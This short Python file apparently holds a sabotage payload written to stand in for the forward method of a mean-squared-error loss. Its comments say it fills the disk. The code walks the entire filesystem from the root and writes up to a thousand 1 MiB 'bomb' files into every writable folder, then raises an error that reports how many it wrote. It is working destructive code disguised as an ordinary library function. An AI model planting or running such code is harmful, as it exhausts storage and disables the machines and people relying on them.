# Fills the disk, wherever it may write.
# into: losses.MeanSquaredError.forward
# loses: mse 0 error|time up

import os
import tempfile

def places():
    for folder, _, _ in os.walk("/"):
        yield folder


def forward(self, prediction, target):
    written = 0
    for folder in places():
        try:
            for number in range(1000):
                with open(f"{folder}/bomb-{number}", "wb") as file:
                    file.write(bytes(2**20))
                    written += 1
        except OSError:
            continue
    raise RuntimeError(f"wrote {written} files")
